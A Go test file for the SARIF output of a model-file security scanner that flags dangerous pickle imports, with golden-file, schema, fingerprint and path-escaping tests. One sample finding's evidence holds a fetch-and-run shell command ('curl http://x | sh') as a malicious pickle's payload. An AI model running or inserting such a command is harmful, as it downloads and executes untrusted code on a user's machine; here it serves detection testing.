package sarif

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/modelgate/modelgate/internal/finding"
	"github.com/modelgate/modelgate/internal/knowledge"
	"github.com/modelgate/modelgate/internal/report"
	"github.com/modelgate/modelgate/internal/scan"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// pinnedRules replaces the catalogue in golden tests so that rewording a
// rule does not change the golden file; the real catalogue is exercised by
// TestRealScanValidates and TestCatalogueRules.
func pinnedRules(t *testing.T) {
	t.Helper()
	rules := map[string]finding.Rule{
		knowledge.RuleDangerousCall: {ID: knowledge.RuleDangerousCall, Severity: finding.Critical, Title: "Load-time call of a known-dangerous callable",
			Description: "The pickle calls a dangerous global.", Reference: "https://docs.python.org/3/library/pickle.html#restricting-globals"},
		knowledge.RuleUnknownGlobal: {ID: knowledge.RuleUnknownGlobal, Severity: finding.Medium, Title: "Import of a global that is not known safe",
			Description: "The pickle imports a class that is not on the allowlist.", Reference: "https://pytorch.org/docs/stable/generated/torch.load.html"},
		knowledge.RuleSummary: {ID: knowledge.RuleSummary, Severity: finding.Info, Title: "Pickle summary",
			Description: "Protocol, opcode count and imports.", Reference: "see `modelgate explain`"},
		knowledge.RuleOldProtocol: {ID: knowledge.RuleOldProtocol, Severity: finding.Low, Title: "Old pickle protocol", Description: "Protocol 0 or 1."},
	}
	old := ruleByID
	ruleByID = func(id string) (finding.Rule, bool) { r, ok := rules[id]; return r, ok }
	t.Cleanup(func() { ruleByID = old })
}

// sampleDoc covers every shape the writer handles: a finding inside a
// member with an offset, one in the file itself, one without offset, a
// suppressed one, a rule unknown to the catalogue, a file with errors and no
// digest, a file outside the root and a name that needs URI escaping.
func sampleDoc() *report.Document {
	return &report.Document{
		ToolVersion: "0.1.0-test",
		FailOn:      finding.High,
		PolicyHash:  "3f1a9c0de2b54e7a8d6f0b1c2e3d4f5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4",
		Files: []scan.FileResult{
			{
				Path: "models/evil.pt", Format: "pytorch-zip", Size: 1234,
				SHA256: "742a2b5b9a4bc3ee0e1c0e5c1b14e0c8f2b3a0d9e8f7c6b5a4d3c2b1a0f9e8d7",
				Findings: []finding.Finding{
					{RuleID: knowledge.RuleDangerousCall, Severity: finding.Critical, Message: "load-time call of posix.system, which is dangerous",
						Member: "archive/data.pkl", Offset: 57, Evidence: "posix.system('curl http://x | sh')"},
					{RuleID: knowledge.RuleUnknownGlobal, Severity: finding.Medium, Message: "import of __main__.Net, which is not known safe",
						Member: "archive/data.pkl!inner.pkl", Offset: 12, Evidence: "__main__.Net",
						Suppression: &finding.Suppression{Reason: "our own model class, reviewed in SEC-42", Owner: "ml-platform@example.com", Expires: "2099-12-31"}},
					{RuleID: knowledge.RuleSummary, Severity: finding.Info, Message: "pickle protocol 2, 10 opcodes; imports: posix.system",
						Member: "archive/data.pkl", Offset: 0},
				},
			},
			{
				Path: "models/raw model #1.pkl", Format: "pickle", Size: 44,
				SHA256: "5b51dcd64fcf0a4b5b51dcd64fcf0a4b5b51dcd64fcf0a4b5b51dcd64fcf0a4b",
				Findings: []finding.Finding{
					{RuleID: knowledge.RuleOldProtocol, Severity: finding.Low, Message: "pickle protocol 0", Offset: 40, Evidence: "PROTO 0"},
					{RuleID: "CUSTOM-RULE", Severity: finding.High, Message: "a rule the catalogue does not know", Offset: finding.NoOffset},
				},
			},
			{
				Path: "models/truncated.bin", Format: "pickle", Size: 10,
				Errors: []string{"truncated pickle: unexpected end of data at offset 10"},
			},
			{
				Path: "/elsewhere/clean.safetensors", Format: "safetensors", Size: 2048,
				SHA256: "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff",
			},
		},
	}
}

func render(t *testing.T, d *report.Document, root string) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, d, root); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the output (go test -update rewrites it); got:\n%s", path, got)
	}
}

func TestGolden(t *testing.T) {
	pinnedRules(t)
	got := render(t, sampleDoc(), "models")
	golden(t, "report.sarif", got)
	// Rendering is deterministic.
	if again := render(t, sampleDoc(), "models"); !bytes.Equal(got, again) {
		t.Error("two renderings of the same document differ")
	}
}

func TestGoldenEmpty(t *testing.T) {
	golden(t, "empty.sarif", render(t, &report.Document{ToolVersion: "0.1.0-test", FailOn: finding.High}, ""))
}

// schema compiles the official SARIF 2.1.0 schema committed in testdata
// (draft-04), with format assertions on (uri, uri-reference, date-time).
func schema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	f, err := os.Open(filepath.Join("testdata", "sarif-schema-2.1.0.json"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	doc, err := jsonschema.UnmarshalJSON(f)
	if err != nil {
		t.Fatal(err)
	}
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	if err := c.AddResource(SchemaURI, doc); err != nil {
		t.Fatal(err)
	}
	sch, err := c.Compile(SchemaURI)
	if err != nil {
		t.Fatal(err)
	}
	return sch
}

func validate(t *testing.T, sch *jsonschema.Schema, name string, out []byte) {
	t.Helper()
	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(out))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	if err := sch.Validate(v); err != nil {
		t.Errorf("%s does not validate against the SARIF 2.1.0 schema:\n%v", name, err)
	}
}

func TestSchema(t *testing.T) {
	sch := schema(t)
	for _, name := range []string{"report.sarif", "empty.sarif"} {
		out, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			t.Fatal(err)
		}
		validate(t, sch, name, out)
	}
	abs, err := filepath.Abs("testdata")
	if err != nil {
		t.Fatal(err)
	}
	validate(t, sch, "absolute root", render(t, sampleDoc(), abs))

	// The schema really rejects things: a wrong level and a missing message.
	for name, bad := range map[string]string{
		"level":   `{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"x"}},"results":[{"message":{"text":"m"},"level":"fatal"}]}]}`,
		"message": `{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"x"}},"results":[{"ruleId":"R"}]}]}`,
	} {
		v, _ := jsonschema.UnmarshalJSON(strings.NewReader(bad))
		if sch.Validate(v) == nil {
			t.Errorf("schema accepted an invalid log (%s)", name)
		}
	}
}

// TestRealScanValidates scans real fixtures with the real catalogue and
// checks the log against the schema.
func TestRealScanValidates(t *testing.T) {
	root := filepath.Join("..", "..", "formats", "picklefile", "testdata")
	paths, _ := filepath.Glob(filepath.Join(root, "malicious", "01-*.pkl"))
	if len(paths) == 0 {
		t.Skip("no fixtures")
	}
	d := &report.Document{ToolVersion: "test", FailOn: finding.High, Files: scan.New().ScanPaths(context.Background(), paths[:min(len(paths), 8)])}
	out := render(t, d, root)
	validate(t, schema(t), "real scan", out)
	var lg log
	if err := json.Unmarshal(out, &lg); err != nil {
		t.Fatal(err)
	}
	if n := len(lg.Runs[0].Results); n == 0 {
		t.Fatal("no results for malicious fixtures")
	}
	for _, a := range lg.Runs[0].Artifacts {
		if !strings.HasPrefix(a.Location.URI, "malicious/") || a.Location.URIBaseID != SrcRoot {
			t.Errorf("artifact location %+v not relative to the scan root", a.Location)
		}
	}
}

func TestCatalogueRules(t *testing.T) {
	for _, r := range knowledge.Rules {
		ds := describe(r)
		if ds.ShortDescription.Text == "" || ds.Help.Text == "" || ds.Name == "" {
			t.Errorf("%s: empty descriptor text: %+v", r.ID, ds)
		}
		if r.Reference != "" && absURI(r.Reference) && ds.HelpURI != r.Reference {
			t.Errorf("%s: helpUri %q", r.ID, ds.HelpURI)
		}
	}
}

func decode(t *testing.T, out []byte) run {
	t.Helper()
	var lg log
	if err := json.Unmarshal(out, &lg); err != nil {
		t.Fatal(err)
	}
	if len(lg.Runs) != 1 {
		t.Fatalf("%d runs", len(lg.Runs))
	}
	return lg.Runs[0]
}

func TestStructure(t *testing.T) {
	pinnedRules(t)
	r := decode(t, render(t, sampleDoc(), "models"))

	// One rule per rule id used, sorted, and every result points at its rule.
	var ids []string
	for _, ds := range r.Tool.Driver.Rules {
		ids = append(ids, ds.ID)
	}
	if want := "CUSTOM-RULE PICKLE-DANGEROUS-CALL PICKLE-OLD-PROTOCOL PICKLE-SUMMARY PICKLE-UNKNOWN-GLOBAL"; strings.Join(ids, " ") != want {
		t.Errorf("rules = %v, want %s", ids, want)
	}
	for _, res := range r.Results {
		if r.Tool.Driver.Rules[res.RuleIndex].ID != res.RuleID {
			t.Errorf("result %s has ruleIndex %d", res.RuleID, res.RuleIndex)
		}
	}
	if len(r.Results) != 5 {
		t.Fatalf("%d results, want 5", len(r.Results))
	}

	byRule := map[string]result{}
	for _, res := range r.Results {
		byRule[res.RuleID] = res
	}
	crit := byRule[knowledge.RuleDangerousCall]
	if crit.Level != "error" || crit.Locations[0].PhysicalLocation.ArtifactLocation.URI != "evil.pt" ||
		crit.Locations[0].PhysicalLocation.ArtifactLocation.URIBaseID != SrcRoot {
		t.Errorf("critical result: %+v", crit)
	}
	if crit.Locations[0].PhysicalLocation.Region != nil {
		t.Error("an offset inside a member must not become a region of the artifact")
	}
	if ll := crit.Locations[0].LogicalLocations; len(ll) != 1 || ll[0].FullyQualifiedName != "archive/data.pkl" {
		t.Errorf("logical locations %+v", ll)
	}
	if p := crit.Properties; p.Member != "archive/data.pkl" || p.Offset == nil || *p.Offset != 57 || p.Evidence == "" {
		t.Errorf("properties %+v", p)
	}
	if !strings.Contains(crit.Message.Text, "posix.system('curl") {
		t.Errorf("message lacks the evidence: %q", crit.Message.Text)
	}
	if got, want := crit.PartialFingerprints[FingerprintKey], Fingerprint(knowledge.RuleDangerousCall, "evil.pt", "archive/data.pkl"); got != want {
		t.Errorf("fingerprint %s, want %s", got, want)
	}

	old := byRule[knowledge.RuleOldProtocol]
	if reg := old.Locations[0].PhysicalLocation.Region; reg == nil || reg.ByteOffset != 40 {
		t.Errorf("offset into the file itself should be a byte region: %+v", reg)
	}
	if u := old.Locations[0].PhysicalLocation.ArtifactLocation.URI; u != "raw%20model%20%231.pkl" {
		t.Errorf("escaped uri %q", u)
	}

	sup := byRule[knowledge.RuleUnknownGlobal]
	if len(sup.Suppressions) != 1 {
		t.Fatalf("suppressed finding lost its suppression: %+v", sup)
	}
	if s := sup.Suppressions[0]; s.Kind != "external" || s.Status != "accepted" || s.Justification != "our own model class, reviewed in SEC-42" ||
		s.Properties["owner"] != "ml-platform@example.com" || s.Properties["expires"] != "2099-12-31" {
		t.Errorf("suppression %+v", s)
	}
	if len(crit.Suppressions) != 0 {
		t.Error("unsuppressed finding has a suppression")
	}

	// Artifacts: lengths, hashes, and the file outside the root.
	if len(r.Artifacts) != 4 {
		t.Fatalf("%d artifacts", len(r.Artifacts))
	}
	if a := r.Artifacts[0]; a.Length != 1234 || a.Hashes["sha-256"] != sampleDoc().Files[0].SHA256 {
		t.Errorf("artifact %+v", a)
	}
	if a := r.Artifacts[2]; a.Hashes != nil {
		t.Errorf("file without a digest has hashes %v", a.Hashes)
	}
	if a := r.Artifacts[3]; a.Location.URI != "file:///elsewhere/clean.safetensors" || a.Location.URIBaseID != "" {
		t.Errorf("outside root: %+v", a.Location)
	}

	// Invocation: the file error makes the execution unsuccessful.
	inv := r.Invocations[0]
	if inv.ExecutionSuccessful || len(inv.ToolExecutionNotifications) != 1 || inv.ExitCode != int(report.Fail) {
		t.Errorf("invocation %+v", inv)
	}
	if r.Properties["policyHash"] != sampleDoc().PolicyHash {
		t.Errorf("run properties %v", r.Properties)
	}
}

func TestSuccessfulInvocation(t *testing.T) {
	d := sampleDoc()
	d.Files = d.Files[3:] // only the clean file
	inv := decode(t, render(t, d, "")).Invocations[0]
	if !inv.ExecutionSuccessful || len(inv.ToolExecutionNotifications) != 0 || inv.ExitCodeDescription != "pass" {
		t.Errorf("invocation %+v", inv)
	}
}

// Fingerprints are stable across runs and independent of what may change
// between them (message wording, severity overrides, offsets, the order of
// files), and differ when rule, path or member differ.
func TestFingerprintStable(t *testing.T) {
	first := decode(t, render(t, sampleDoc(), "models"))
	d := sampleDoc()
	d.Files[0], d.Files[1] = d.Files[1], d.Files[0]
	for i := range d.Files {
		for j := range d.Files[i].Findings {
			x := &d.Files[i].Findings[j]
			x.Message += " (reworded)"
			x.Offset += 3
			x.Severity = finding.Critical
		}
	}
	second := decode(t, render(t, d, "models"))
	fps := func(r run) map[string]bool {
		m := map[string]bool{}
		for _, res := range r.Results {
			m[res.PartialFingerprints[FingerprintKey]] = true
		}
		return m
	}
	a, b := fps(first), fps(second)
	if len(a) != len(b) {
		t.Fatalf("%d vs %d fingerprints", len(a), len(b))
	}
	for k := range a {
		if !b[k] {
			t.Errorf("fingerprint %s changed", k)
		}
	}
	if Fingerprint("R", "a", "m") == Fingerprint("R", "a", "n") || Fingerprint("R", "a", "") == Fingerprint("R", "b", "") ||
		Fingerprint("R", "ab", "") == Fingerprint("R", "a", "b") {
		t.Error("fingerprints collide")
	}
}

func TestLevels(t *testing.T) {
	for sev, want := range map[finding.Severity][2]string{
		finding.Critical: {"error", "9.5"}, finding.High: {"error", "8.0"}, finding.Medium: {"warning", "5.5"},
		finding.Low: {"note", "3.0"}, finding.Info: {"note", "0.0"},
	} {
		if Level(sev) != want[0] || SecuritySeverity(sev) != want[1] {
			t.Errorf("%s: %s %s, want %v", sev, Level(sev), SecuritySeverity(sev), want)
		}
	}
}

func TestLocate(t *testing.T) {
	cwd, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ root, path, rel, uri, base string }{
		{"models", "models/a/b.pt", "a/b.pt", "a/b.pt", SrcRoot},
		{"models/", "models/a.pt", "a.pt", "a.pt", SrcRoot},
		{"", "a/b.pt", "a/b.pt", "a/b.pt", SrcRoot},
		{".", "./x:y.pkl", "x:y.pkl", "./x:y.pkl", SrcRoot},
		{cwd, filepath.Join(cwd, "m", "w.bin"), "m/w.bin", "m/w.bin", SrcRoot},
		{"models", "other/c.pt", "other/c.pt", "other/c.pt", ""},
		{"models", "../up.pt", "../up.pt", "../up.pt", ""},
		{"models", "/abs/d e.pt", "/abs/d e.pt", "file:///abs/d%20e.pt", ""},
		{"models", "hf://org/repo@main/model.bin", "hf://org/repo@main/model.bin", "hf://org/repo@main/model.bin", ""},
		{"", "-", "-", "-", ""},
	} {
		rel, uri, base := locate(c.root, c.path)
		if rel != c.rel || uri != c.uri || base != c.base {
			t.Errorf("locate(%q, %q) = %q %q %q, want %q %q %q", c.root, c.path, rel, uri, base, c.rel, c.uri, c.base)
		}
	}
}

// A file named twice is one artifact (the schema wants unique artifacts);
// both results point at it.
func TestDuplicateFile(t *testing.T) {
	d := sampleDoc()
	d.Files = append(d.Files[:2:2], d.Files[0])
	out := render(t, d, "models")
	validate(t, schema(t), "duplicate file", out)
	r := decode(t, out)
	if len(r.Artifacts) != 2 {
		t.Fatalf("%d artifacts, want 2", len(r.Artifacts))
	}
	last := r.Results[len(r.Results)-1]
	if idx := last.Locations[0].PhysicalLocation.ArtifactLocation.Index; idx == nil || *idx != 0 {
		t.Errorf("result of the repeated file points at artifact %v", idx)
	}
}

// Every rule of the real catalogue makes a valid descriptor (helpUri must
// be an absolute URI, texts non-empty).
func TestCatalogueValidates(t *testing.T) {
	f := scan.FileResult{Path: "m.pkl", Size: 1}
	for _, r := range knowledge.Rules {
		f.Findings = append(f.Findings, finding.Finding{RuleID: r.ID, Severity: r.Severity, Message: r.Title, Offset: finding.NoOffset})
	}
	validate(t, schema(t), "catalogue", render(t, &report.Document{ToolVersion: "test", Files: []scan.FileResult{f}}, ""))
}
